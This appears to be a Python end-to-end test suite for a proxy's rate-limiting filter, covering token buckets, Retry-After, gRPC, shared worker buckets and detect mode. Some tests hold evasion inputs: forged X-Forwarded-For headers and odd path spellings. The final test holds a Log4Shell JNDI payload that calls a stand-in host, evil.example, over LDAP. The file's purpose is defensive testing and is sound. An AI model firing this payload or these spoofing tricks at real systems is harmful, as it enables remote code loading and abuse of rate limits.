"""Token buckets: per client and for the whole proxy, per group of paths, shared by the workers."""

import itertools
import time

from e2e.case import FORWARDED, Case, config
from harness.bootstrap import Listener

LIMITS = [
    {"name": "per-client", "paths": [{"prefix": "/c/"}], "key": ["client"], "rate": "1/s", "burst": 5},
    {"name": "auth", "paths": [{"prefix": "/auth/"}], "key": ["client"], "rate": "1/s", "burst": 2},
    {"name": "whole-proxy", "paths": [{"prefix": "/all/"}], "key": [], "rate": "2/s", "burst": 10},
    {"name": "slow", "paths": [{"prefix": "/slow/"}], "key": ["client"], "rate": "30/m", "burst": 1},
    {"name": "watched", "paths": [{"prefix": "/watched/"}], "key": ["client"], "rate": "1/s", "burst": 1, "mode": "detect"},
]
_clients = itertools.count(1)


def new_client():
    """An address that no test has used before; what stands left of it is forged and must not matter."""
    number = next(_clients)
    return f"203.0.{113 + number // 250}.{number % 250 + 1}"


class Limits(Case):
    listeners = {
        "main": Listener(config(client=FORWARDED, limits=LIMITS)),
        "gateway": Listener(config(client=FORWARDED, limits=LIMITS), use_remote_address=True),
        "peer": Listener(config(client={"from": ["peer"]}, limits=LIMITS), use_remote_address=True),
    }

    def ask(self, target, client, *, forged=None, **how):
        forwarded = f"{forged}, {client}" if forged else client
        return self.send("GET", target, [("X-Forwarded-For", forwarded)], **how)

    def assert_burst(self, ask, burst, rate=1, count=20):
        """Of `count` requests in a row, the burst passes and what is refilled meanwhile."""
        began = time.monotonic()
        statuses = [ask(i).status for i in range(count)]
        refilled = int((time.monotonic() - began) * rate) + 1
        self.assertEqual(set(statuses), {200, 429}, statuses)
        self.assertEqual(statuses[:burst], [200] * burst)
        self.assertLessEqual(statuses.count(200), burst + refilled, statuses)

    def test_burst_of_one_client(self):
        client = new_client()
        self.assert_burst(lambda _: self.ask("/c/x", client), 5)
        self.assert_refused(self.ask("/c/x", client), "limit:per-client", status=429)
        self.assertEqual(self.ask("/c/x", new_client()).status, 200, "another client is limited too")
        self.assertEqual(self.ask("/elsewhere", client).status, 200, "another path is limited too")

    def test_retry_after_is_correct(self):
        client = new_client()
        self.assert_burst(lambda _: self.ask("/c/x", client), 5, count=8)
        refused = self.ask("/c/x", client)
        wait = int(refused.value("retry-after"))
        self.assertEqual(wait, 1)
        time.sleep(wait)
        self.assertEqual(self.ask("/c/x", client).status, 200)

    def test_who_obeys_is_never_refused_twice(self):
        client, waits = new_client(), []
        for _ in range(3):
            self.assertEqual(self.ask("/slow/x", client).status, 200)
            waits.append(int(self.ask("/slow/x", client).value("retry-after")))
            time.sleep(waits[-1])
        self.assertEqual(waits, [2, 2, 2], "a token comes every two seconds")

    def test_grpc(self):
        """Status 8 is RESOURCE_EXHAUSTED; gRPC has it in a header of a 200."""
        client = new_client()
        headers = [("content-type", "application/grpc"), ("te", "trailers"), ("x-forwarded-for", client)]
        for _ in range(2):
            with self.stream(headers, path="/auth/shop.Orders/Place", end=True) as stream:
                response = stream.answer()
        with self.stream(headers, path="/auth/shop.Orders/Place", end=True) as stream:
            response = stream.answer()
        self.assertEqual((response.status, response.value("grpc-status"), response.value("retry-after")), (200, "8", "1"))
        entry = self.envoy.access(response)
        self.assertEqual(entry["details"], "backstop{limit:auth}")

    def test_groups_of_paths_have_buckets_of_their_own(self):
        client = new_client()
        self.assert_burst(lambda i: self.ask(f"/auth/{i}", client), 2)
        self.assert_refused(self.ask("/auth/login", client), "limit:auth", status=429)
        self.assertEqual(self.ask("/c/x", client).status, 200)

    def test_whole_proxy(self):
        self.assert_burst(lambda _: self.ask("/all/x", new_client()), 10, rate=2, count=30)
        entry = self.assert_refused(self.ask("/all/x", new_client()), "limit:whole-proxy", status=429)
        self.assertEqual(entry["limit"], "whole-proxy")

    def test_query_gives_no_new_bucket(self):
        client = new_client()
        self.assert_burst(lambda i: self.ask(f"/c/x?n={i}", client), 5)

    def test_spelling_of_the_path_gives_no_new_bucket(self):
        client = new_client()
        spellings = ["/c/x", "//c/x", "/./c/x", "/%63/x", "/c/./x", "/c//x", "/c%2fx"]
        self.assert_burst(lambda i: self.ask(spellings[i % len(spellings)], client), 5)

    def test_forged_forwarded_for_gives_no_new_bucket(self):
        client = new_client()
        self.assert_burst(lambda i: self.ask("/c/x", client, forged=f"198.51.100.{i}"), 5)

    def test_no_forged_form_gains_a_bucket_or_loses_the_limit(self):
        client = new_client()
        self.assert_burst(lambda _: self.ask("/auth/x", client), 2, count=6)
        forms = [
            "", ",", ",,,,", "junk", "10.0.0.1", "10.0.0.1:80", "[2001:db8::1]", "[2001:db8::1]:80", "::ffff:10.0.0.1",
            "unknown", "for=10.0.0.1", '"10.0.0.1"', "%00", "[", "127.0.0.1", ", ".join(f"10.0.0.{i}" for i in range(100)),
        ]  # fmt: skip
        began, admitted = time.monotonic(), 0
        for form in forms:
            in_one = [("X-Forwarded-For", f"{form}, {client}")]
            in_two = [("X-Forwarded-For", form), ("X-Forwarded-For", client)]
            others = [(name, form) for name in ("X-Real-Ip", "True-Client-Ip", "Forwarded", "CloudFront-Viewer-Address")]
            for headers in (in_one, in_two, [*others, ("X-Forwarded-For", client)]):
                status = self.send("GET", "/auth/x", headers).status
                self.assertIn(status, (200, 429), form)
                admitted += status == 200
        self.assertLessEqual(admitted, int(time.monotonic() - began) + 1, "more than one a second")

    def test_behind_a_gateway_that_adds_the_peer(self):
        """Who names somebody else there has no bucket for it, and takes nothing from the one who is named."""
        greedy, victim = "127.0.0.11", "127.0.0.12"
        self.assert_burst(lambda _: self.ask("/c/x", victim, source=greedy, on="gateway"), 5)
        self.assert_burst(lambda _: self.ask("/c/x", greedy, source=victim, on="gateway"), 5)

    def test_peer_address(self):
        """As Envoy sees it, whatever stands in X-Forwarded-For."""
        self.assert_burst(lambda i: self.ask("/c/x", new_client(), source="127.0.0.9", on="peer"), 5)
        self.assertEqual(self.ask("/c/x", new_client(), source="127.0.0.10", on="peer").status, 200)

    def test_workers_share_the_buckets(self):
        client = new_client()
        names = [f"listener.main.worker_{i}.downstream_cx_total" for i in (0, 1)]
        before = self.envoy.stats("listener.main.")
        self.assert_burst(lambda _: self.ask("/c/x", client), 5, count=40)
        after = self.envoy.stats("listener.main.")
        for name in names:
            self.assertGreater(after.get(name, 0), before.get(name, 0), "one worker did it all; this shows nothing")

    def test_detect_mode_lets_through_and_counts(self):
        client = new_client()
        before = self.envoy.stats("wasmcustom.backstop_").get("wasmcustom.backstop_limited_watched", 0)
        self.assertEqual([self.ask("/watched/x", client).status for _ in range(5)], [200] * 5)
        after = self.envoy.stats("wasmcustom.backstop_").get("wasmcustom.backstop_limited_watched", 0)
        self.assertGreaterEqual(after - before, 3)

    def test_near_the_limit_is_counted(self):
        name = "wasmcustom.backstop_near_limit_per_client"
        before = self.envoy.stats(name)[name]
        client = new_client()
        self.assert_burst(lambda _: self.ask("/c/x", client), 5)
        self.assertGreaterEqual(self.envoy.stats(name)[name] - before, 1)

    def test_attacks_are_refused_within_the_limit(self):
        target = "/c/x?q=%24%7Bjndi:ldap://evil.example/a%7D"
        self.assert_refused(self.ask(target, new_client()), "log4shell")
